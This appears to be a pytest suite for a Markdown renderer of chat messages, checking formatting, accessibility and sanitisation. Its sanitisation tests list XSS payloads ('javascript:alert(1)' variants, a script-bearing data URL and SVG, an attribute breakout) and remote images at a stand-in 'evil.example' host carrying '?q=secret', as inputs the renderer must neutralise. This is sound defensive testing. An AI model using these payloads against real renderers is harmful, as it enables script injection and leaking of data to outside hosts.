"""What a message looks like: the Markdown that models and people write, and what guards it."""

import re

import pytest

from jenny.markdown.render import render
from tests.support.html import Seen

PNG = (
    "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwAD"
    "hgGAWjR9awAAAABJRU5ErkJggg=="
)
SVG = "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+"


def bare(html: str) -> str:
    """*html* without the attribute that most blocks have."""
    return html.replace(' dir="auto"', "")


@pytest.mark.parametrize(
    ("source", "html"),
    [
        ("Hello *there* **you**", "<p>Hello <em>there</em> <strong>you</strong></p>\n"),
        ("~~gone~~ `code`", "<p><s>gone</s> <code>code</code></p>\n"),
        ("one\ntwo", "<p>one\ntwo</p>\n"),
        ("one  \ntwo<br>three", "<p>one<br>\ntwo<br>\nthree</p>\n"),
        ("- a\n- b", "<ul><li>a</li>\n<li>b</li>\n</ul>\n"),
        ("3. a\n4. b", '<ol start="3"><li>a</li>\n<li>b</li>\n</ol>\n'),
        ("> said", "<blockquote><p>said</p>\n</blockquote>\n"),
        ("a\n\n---\n\nb", "<p>a</p>\n<hr><p>b</p>\n"),
        ("H<sub>2</sub>O, <kbd>Esc</kbd>", "<p>H<sub>2</sub>O, <kbd>Esc</kbd></p>\n"),
        ("if a <b then", "<p>if a &lt;b then</p>\n"),
        ("List<i> of <b> things", "<p>List&lt;i&gt; of &lt;b&gt; things</p>\n"),
        ("<div onclick=x>hi</div>", "<p>&lt;div onclick=x&gt;hi&lt;/div&gt;</p>\n"),
        ("a &amp; b &copy; &lt;", "<p>a &amp; b © &lt;</p>\n"),
        ("", ""),
    ],
)
def test_what_people_write(source: str, html: str) -> None:
    """Ordinary Markdown looks as it does elsewhere; a tag that is not closed is text."""
    assert bare(render(source)) == html


@pytest.mark.parametrize("end", ["\r\n", "\r", "\n"])
def test_line_ends(end: str) -> None:
    """A text from Windows, or from an old Mac, looks like any other."""
    source = end.join(["# A", "", "- b", "- c", "", "```", "d", "```"])
    assert render(source) == render(source.replace(end, "\n"))
    assert "\r" not in render(source)


def test_broken_characters() -> None:
    """Half of a character, or a NUL, is shown as a replacement and breaks nothing."""
    assert bare(render("a\ud83d b\0")) == "<p>a\ufffd b\ufffd</p>\n"
    assert bare(render("\ud83d\ude00")) == "<p>\U0001f600</p>\n"
    assert render("\ud83d\ude00").encode()


@pytest.mark.parametrize(
    ("source", "levels"),
    [
        ("# a\n## b\n### c", "345"),
        ("### a\n# b\n### c\n#### d\n## e", "33454"),
        ("###### a\n\n> ##### b\n\n- # c", "333"),
        ("# a\n## b\n### c\n#### d\n##### e\n###### f", "345666"),
        ("a\n=\n\nb\n-", "34"),
    ],
)
def test_headings_fit_the_page(source: str, levels: str) -> None:
    """A message's headings begin below the page's and skip no level, whatever it begins with."""
    assert "".join(re.findall(r"<h(\d)>", bare(render(source)))) == levels


def test_table() -> None:
    """A table scrolls by itself, by keyboard too, and says so to a screen reader."""
    html = bare(render("| a | b | c |\n|:--|--:|:-:|\n| 1 | `2` | |\nprose"))
    assert html.startswith(
        '<div class="table" tabindex="0" role="group" aria-label="Table"><table><thead>'
    )
    assert '<th scope="col" class="left">a</th><th scope="col" class="right">b</th>' in html
    assert '<td class="left">1</td><td class="right"><code>2</code></td><td class="center">' in html
    assert html.endswith("</table></div>\n<p>prose</p>\n")
    assert "style" not in html


def test_task_list() -> None:
    """Tasks have boxes that say their state and cannot be pressed."""
    html = bare(render("- [ ] buy\n- [x] *pay*\n- [X] go\n- [y] no\n\n[ ] no"))
    boxes = re.findall(r"<li class=\"task\"><input ([^>]*)>", html)
    assert len(boxes) == 3
    assert all('disabled=""' in box and 'type="checkbox"' in box for box in boxes)
    assert ['aria-label="Done"' in box and 'checked=""' in box for box in boxes] == [0, 1, 1]
    assert "<li>[y] no</li>" in html
    assert "<p>[ ] no</p>" in html


def test_footnotes() -> None:
    """Footnotes stand at the end, with ways there and back that are unique on a page."""
    source = "a[^n] b[^n] c[^m]\n\n[^n]: first\n[^m]: second\n[^unused]: third"
    seen = Seen(render(source, prefix="b7-"))
    ids = seen.of("a", "id") + seen.of("li", "id")
    assert ids == ["fnref-b7-1", "fnref-b7-1-1", "fnref-b7-2", "fn-b7-1", "fn-b7-2"]
    assert {target[1:] for target in seen.of("a", "href")} == set(ids)
    assert "third" not in seen.text
    assert not set(ids) & set(Seen(render(source, prefix="b8-")).of("a", "id"))


def test_prefix_cannot_break_out() -> None:
    """Whatever the prefix is, an id stays an id."""
    assert not Seen(render("a[^1]\n\n[^1]: b", prefix='"><script>')).faults


@pytest.mark.parametrize(
    ("source", "target"),
    [
        ("[a](https://x.example/b?c=d&e)", "https://x.example/b?c=d&e"),
        ("[a](/settings/models/)", "/settings/models/"),
        ("[a](mailto:me@x.example)", "mailto:me@x.example"),
        ("<https://x.example>", "https://x.example"),
        ("see https://x.example/a_(b). Then", "https://x.example/a_(b)"),
        ("(https://x.example/a)", "https://x.example/a"),
        ("[a][b]\n\n[b]: https://x.example", "https://x.example"),
        ("**https://x.example/a**", "https://x.example/a"),
    ],
)
def test_links(source: str, target: str) -> None:
    """Links lead where they say, in a new tab when that is elsewhere, and tell nobody whence."""
    seen = Seen(render(source))
    assert seen.of("a", "href") == [target]
    assert seen.of("a", "rel") == ["noopener nofollow"]
    assert seen.of("a", "target") == (["_blank"] if target.startswith("https") else [])


@pytest.mark.parametrize(
    "target",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java&#9;script:alert(1)",
        "java&Tab;script:alert(1)",
        "&#106;avascript:alert(1)",
        "%6aavascript:alert(1)",
        "vbscript:x",
        "data:text/html,<script>alert(1)</script>",
        "data:image/svg+xml;base64,PHN2Zz4=",
        "file:///etc/passwd",
        "//evil.example/x",
        "blob:x",
        "about:blank",
        "wiki/page.md",
        "#top",
        "?x=1",
        "intent://x",
    ],
)
def test_places_no_link_leads_to(target: str) -> None:
    """Other schemes, hosts without one, and places this page does not have stay text."""
    for source in (
        f"[words](<{target}>)",
        f"[words][r]\n\n[r]: <{target}>",
        f"![words](<{target}>)",
    ):
        seen = Seen(render(source))
        assert not seen.faults
        assert not seen.of("a", "href")
        assert not seen.of("img", "src")
        assert "words" in seen.text


def test_place_is_still_said() -> None:
    """A link into the workspace is no dead link: its path stands beside its words."""
    assert bare(render("[the page](wiki/a.md)")) == "<p>the page <code>wiki/a.md</code></p>\n"
    assert bare(render("[wiki/a.md](wiki/a.md)")) == "<p>wiki/a.md</p>\n"


@pytest.mark.parametrize(
    "source",
    [
        "![a cat](https://evil.example/x.png?q=secret)",
        '![a cat](http://evil.example/x.png "t")',
        "![a cat][r]\n\n[r]: https://evil.example/x.png",
    ],
)
def test_remote_image_is_a_link(source: str) -> None:
    """A picture elsewhere is not loaded, since that would tell its host; the host is named."""
    seen = Seen(render(source))
    assert "img" not in seen.tags
    assert len(seen.of("a", "href")) == 1
    assert "Image “a cat” from evil.example — open" in seen.text


def test_remote_image_in_a_link() -> None:
    """A badge that links somewhere keeps its one link."""
    seen = Seen(render("[![build](https://img.example/b.svg)](https://ci.example)"))
    assert seen.of("a", "href") == ["https://ci.example"]
    assert "Image “build” from img.example" in seen.text


def test_embedded_picture() -> None:
    """A picture that the text itself holds is shown, when its format cannot carry a script."""
    assert Seen(render(f"![dot]({PNG})")).of("img", "src") == [PNG]
    assert Seen(render(f"![dot]({PNG})")).of("img", "alt") == ["dot"]
    assert Seen(render(f"![dot]({PNG})")).of("img", "loading") == ["lazy"]


@pytest.mark.parametrize(
    "address",
    [
        SVG,
        "data:image/png;base64,PHNjcmlwdD4=",
        "data:image/png,raw",
        "data:image/png;base64,iVBORw0KGgo!",
        "data:image/png;base64," + "A" * 800_000,
        "data:text/html;base64,iVBORw0KGgo=",
    ],
)
def test_embedded_picture_that_is_none(address: str) -> None:
    """What only says that it is a picture, or is too large, is not shown as one."""
    seen = Seen(render(f"![dot]({address})"))
    assert "img" not in seen.tags
    assert "dot" in seen.text
    assert not Seen(render(f"[dot]({address})")).of("a", "href")
    assert not Seen(render(f"![p]({PNG}) [dot]({address})")).of("a", "href")


def test_code_block() -> None:
    """Code says its language, can be copied and reached by keyboard, and keeps every character."""
    html = render("```python title=x\ndef f(a):\n\n    return '<b>' & a\n```")
    seen = Seen(html)
    assert '<div class="code"><div class="code-head"><span class="code-language">Python' in html
    assert seen.of("button", "type") == ["button"] * 3
    for name, value in (("data-copy", ""), ("data-save", "python"), ("data-wrap", "")):
        assert ("button", name, value) in seen.attributes
    assert seen.of("pre", "tabindex") == ["0"]
    code = Seen(html[html.index("<code>") : html.index("</code>")] + "</code>")
    assert code.text == "def f(a):\n\n    return '<b>' & a\n"
    assert '<span class="k">def</span>' in html


def test_indented_and_unnamed_code() -> None:
    """Code without a language is code all the same."""
    assert "<code>a &lt; b\n</code>" in render("    a < b")
    assert '<span class="code-language">Code</span>' in render("```\na\n```")
    assert '<span class="code-language">nosuchlanguage</span>' in render(
        "```nosuchlanguage\na\n```"
    )


def test_what_cannot_be_nested_deeper_is_kept() -> None:
    """Quotes within quotes end somewhere; their words do not get lost."""
    assert "the words" in render(">" * 200 + " the words")
    assert "the words" in render("- " * 200 + "the words")


def test_source_that_is_too_long() -> None:
    """What lies beyond the limit is shown as it was written, all of it."""
    source = ("*em* " + "word " * 2_000 + "\n\n") * 60 + "the *end*"
    html = render(source)
    assert bare(html).startswith("<p><em>em</em> word")
    assert html.endswith("the *end*</pre>\n")
    assert Seen(html).text.count("word") == 120_000


@pytest.mark.parametrize(
    ("source", "html"),
    [
        ("**重要提示（Important）：**请注意", "<strong>重要提示（Important）：</strong>请注意"),
        ("これは**「重要」**です", "これは<strong>「重要」</strong>です"),
        ("他说**“重要”**的", "他说<strong>“重要”</strong>的"),
        ("**한국어(Korean)**는", "<strong>한국어(Korean)</strong>는"),
        ("**สำคัญ (Important):**โปรด", "<strong>สำคัญ (Important):</strong>โปรด"),
        ("~~删除（x）~~了", "<s>删除（x）</s>了"),
        ('a*"b"*c', 'a*"b"*c'),
        ("2*3*4", "2<em>3</em>4"),
        ("snake_case_名", "snake_case_名"),
    ],
)
def test_emphasis_beside_scripts_without_spaces(source: str, html: str) -> None:
    """Marks beside Chinese, Japanese, Korean and Thai text emphasise, as they should."""
    assert bare(render(source)) == f"<p>{html}</p>\n"


@pytest.mark.parametrize(
    ("source", "address"),
    [
        ("见 https://example.com/a，然后", "https://example.com/a"),
        ("请看https://example.com。", "https://example.com"),
        ("「https://example.com」を", "https://example.com"),
        ("https://example.comを見て", "https://example.com"),
        ("http://localhost:8000を", "http://localhost:8000"),
        ("**https://example.com**は", "https://example.com"),
        ("*https://example.com/a*は", "https://example.com/a"),
        ("_https://example.com_", "https://example.com"),
        ("(https://example.com/a_(b))", "https://example.com/a_(b)"),
        ("{https://example.com/[a]}", "https://example.com/%5Ba%5D"),
        ("“https://example.com/a”", "https://example.com/a"),
        ("&quot;https://example.com&quot; x", "https://example.com"),
        ("https://example.com．evil", "https://example.com"),
        ("https://example.com\u200b/a", "https://example.com"),
        ("يرى https://example.com/a، ثم", "https://example.com/a"),
        ("https://example.com/a؟", "https://example.com/a"),
        ("https://example.com/a। फिर", "https://example.com/a"),
        ("https://例え.jpを", "https://xn--r8jz45g.jp"),
        ("https://zh.example.org/wiki/北京。", "https://zh.example.org/wiki/%E5%8C%97%E4%BA%AC"),
        ("https://[::1]:80/a", "https://[::1]:80/a"),
    ],
)
def test_bare_addresses_end_where_the_sentence_goes_on(source: str, address: str) -> None:
    """An address in running text ends at the punctuation of any script and names no other host."""
    assert Seen(render(source)).of("a", "href") == [address]


def test_full_width_letters_are_no_host() -> None:
    """Browsers would read them as ASCII and go where the text does not seem to lead."""
    assert "<a " not in render("https://ｅvil.example")


def test_each_block_runs_as_its_own_letters_do() -> None:
    """Paragraphs, headings, items, quotes, cells and notes; what stands in an item goes with it."""
    html = render("# א\n\nb\n\n- ג\n\n  d\n\n> ה\n\n| و |\n|---|\n| x |\n\na[^1]\n\n[^1]: ز")
    for tag in ("h3", "p", "li", "blockquote", "th", "td"):
        opened = re.findall(rf"<{tag}[ >][^<]*", html)
        assert any('dir="auto"' in one for one in opened), tag
    assert '<li dir="auto"><p>ג</p>' in html
    assert '<blockquote dir="auto"><p>ה</p>' in html
    assert re.search(r'<li id="fn-1" dir="auto"><p>', html)
    assert 'dir="auto"' not in render("```\nא\n```")
